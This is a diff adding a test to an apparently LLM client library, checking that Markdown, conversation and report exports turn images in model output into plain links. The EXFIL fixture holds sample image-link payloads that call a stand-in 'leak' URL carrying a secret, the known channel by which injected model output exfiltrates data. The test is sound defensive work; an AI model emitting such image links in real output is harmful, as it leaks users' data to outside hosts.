@@ -110,3 +110,28 @@ def test_a_saved_reply_page_runs_nothing(scripted: Any, tmp_path: Path):
     page = conv.save(tmp_path / "c.html").read_text("utf-8").lower()
     assert "<script" not in page
     assert not re.search(r"href\s*=\s*['\"]?\s*javascript:", page)
+
+
+EXFIL = ("答案见图 ![pic](http://127.0.0.1:9/leak?q=secret) and ![ref-style][r] and ![short]\n\n"
+         "[r]: http://127.0.0.1:9/leak?q=2\n\n`![kept in code](http://x)`")
+
+
+def test_markdown_exports_never_load_an_image_from_model_output(scripted: Any, tmp_path: Path):
+    """A viewer fetches Markdown images as it opens a file: each becomes a plain link."""
+    import dskit as ds
+
+    client = scripted([Delta("answer", EXFIL), Done(stats=Stats())],
+                      [Delta("answer", EXFIL), Done(stats=Stats())])
+    reply = ds.chat("画一张图", "fake:1b", client=client)
+    conv = ds.Conversation("fake:1b", client=client)
+    conv.send("再画一张")
+    rows = ds.compare("fake:1b", ["x"], client=scripted([EXFIL]), progress=False)
+    texts = [reply.to_markdown(), conv.save(tmp_path / "c.md").read_text(encoding="utf-8"),
+             ds.report(rows, tmp_path / "r.md").read_text(encoding="utf-8")]
+    for text in texts:
+        outside_code = re.sub(r"`[^`]*`", "", text)
+        # dskit's own plots are inline data, which nothing fetches; no other image is left
+        assert re.findall(r"!\[[^\]]*\]\((?!data:image/png;base64,)", outside_code) == []
+        assert "![short]" not in outside_code and "![ref-style]" not in outside_code
+        assert "[image: pic](http://127.0.0.1:9/leak?q=secret)" in text  # still there to click
+    assert "`![kept in code](http://x)`" in texts[0]  # code is shown as written
